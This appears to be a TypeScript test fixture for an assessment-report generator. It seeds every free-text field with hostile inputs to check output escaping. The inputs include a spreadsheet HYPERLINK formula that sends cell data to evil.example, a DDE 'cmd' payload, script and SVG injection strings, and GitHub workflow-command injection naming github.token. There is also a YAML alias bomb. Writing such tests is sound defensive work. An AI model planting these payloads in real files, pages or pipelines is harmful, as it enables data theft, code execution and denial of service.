/** Assessments with the same hostile text at the beginning of everything a source can say. */
import type { Assessment } from '../../src/types.js';
import { indicator } from './assessment-parts.js';
import { assessment } from './assessment.js';

/** What people and programs have tried. */
export const HOSTILE_TEXTS: readonly { name: string; text: string }[] = [
  { name: 'a formula with a link', text: '=HYPERLINK("http://evil.example/?x="&A1,"点这里")' },
  { name: 'a full-width formula', text: '＝1+1' },
  { name: 'a formula after a tab', text: '\t=1+1' },
  { name: 'a plus', text: '+1+1' },
  { name: 'a minus', text: '-1+1' },
  { name: 'an at sign', text: '@SUM(1+1)' },
  { name: 'a dynamic data exchange', text: "=cmd|' /C calc'!A0" },
  { name: 'a script', text: '<script>alert(1)</script>' },
  { name: 'a broken attribute', text: '"><img src=x onerror=alert(1)> \'' },
  { name: 'the end of a section', text: ']]><x/>--><!--' },
  { name: 'the end of a script', text: '</script></style></title><svg onload=alert(1)>' },
  { name: 'directions', text: '\u202e\u2066\u200f文字' },
  { name: 'control characters', text: '\u0000\u0007\u001b[31m\u009b2J\r\n\v\f\u2028\u2029' },
  { name: 'half characters', text: '\ud83d 半 \udc00\ufffe\uffff' },
  {
    name: 'workflow commands',
    text: '\n::error file=a::b%0A::set-output name=x::y ${{ github.token }}',
  },
  {
    name: 'Markdown',
    text: '| a | [b](javascript:c) ![d](http://evil.example/e) `f` ***g*** \n# h\n- i <details>',
  },
  { name: 'prototype names', text: '__proto__ constructor toString' },
  { name: 'a very long title', text: '长'.repeat(10_000) },
];

const FREE = new Set([
  'title',
  'text',
  'note',
  'reason',
  'remedy',
  'basis',
  'lead',
  'assessor',
  'due',
  'unit',
  'subject',
  'value',
  'link',
  'fact',
  'site',
  'edition',
  'notice',
  'file',
  'found',
  'responsible',
  'supporting',
  'verifyBy',
  'missing',
  'kind',
]);
const NOT_FREE = new Set([
  'deducted',
  'not-earned',
  'set',
  'missing',
  'unreachable',
  'verdict',
  'veto',
  'error',
  'peer-mean',
  'events',
  'percent',
  'number',
  'flag',
  'fail',
]);

/** The sample of the report tests with `text` before every title, reason, unit, fact, file … and every record id. */
export function hostileAssessment(text: string): Assessment {
  const given = assessment();
  given.indicators.push(
    indicator({
      id: '3',
      title: '材料',
      points: '0',
      score: '0',
      lost: '0',
      text: '要求',
      supporting: ['配合局'],
      assessor: '评定人',
      verifyBy: ['书面'],
      basis: '依据',
      due: '2026-01-01',
      missing: ['缺的'],
      materials: [{ kind: '纪要', needed: 2, valid: ['E1'], invalid: ['E2'], lacking: 1 }],
      evidence: ['E1', 'E2'],
    }),
  );
  given.materials = [
    {
      unit: '司法局',
      indicators: 1,
      complete: 0,
      lacking: [{ indicator: '3', kind: '纪要', lacking: 1 }],
    },
  ];
  given.decision.vetoes.push({
    id: 'V2',
    title: '弄虚作假',
    fired: 'yes',
    effect: { kind: 'fail' },
    reason: '理由',
    basis: '依据',
    evidence: ['E1'],
    missing: [],
    findings: [],
  });
  for (const record of given.evidence.records)
    Object.assign(record, {
      indicator: '1.1.1',
      fact: '败诉案件',
      subject: '某案',
      value: '3',
      note: '说明',
      kind: '判决书',
    });
  const hostile: unknown = JSON.parse(
    JSON.stringify(given),
    function revive(this: unknown, key: string, value: unknown): unknown {
      if (typeof value !== 'string')
        return Array.isArray(value) &&
          (FREE.has(key) || key === 'evidence' || key === 'valid' || key === 'invalid')
          ? value.map((each: unknown) => (typeof each === 'string' ? text + each : each))
          : value;
      const isRecord =
        typeof this === 'object' && this !== null && 'quantity' in this && 'place' in this;
      if (key === 'id' && isRecord) return text + value;
      return FREE.has(key) && !(key === 'kind' && NOT_FREE.has(value)) ? text + value : value;
    },
  );
  if (!isAssessment(hostile)) throw new Error('not an assessment');
  return hostile;
}
const isAssessment = (value: unknown): value is Assessment =>
  typeof value === 'object' &&
  value !== null &&
  'schema' in value &&
  value.schema === 'zhibiao/assessment@2';

/** A text made of others. */
export const repeat = (count: number, text: (index: number) => string): string =>
  Array.from({ length: count }, (_, index) => text(index)).join('');
/** Aliases of aliases: 9 to the power of 13 values in 600 letters. */
export const bomb = `a0: &a0 [x, x, x, x, x, x, x, x, x]\n${repeat(12, (index) => `a${index + 1}: &a${index + 1} [${`*a${index}, `.repeat(9)}]\n`)}`;
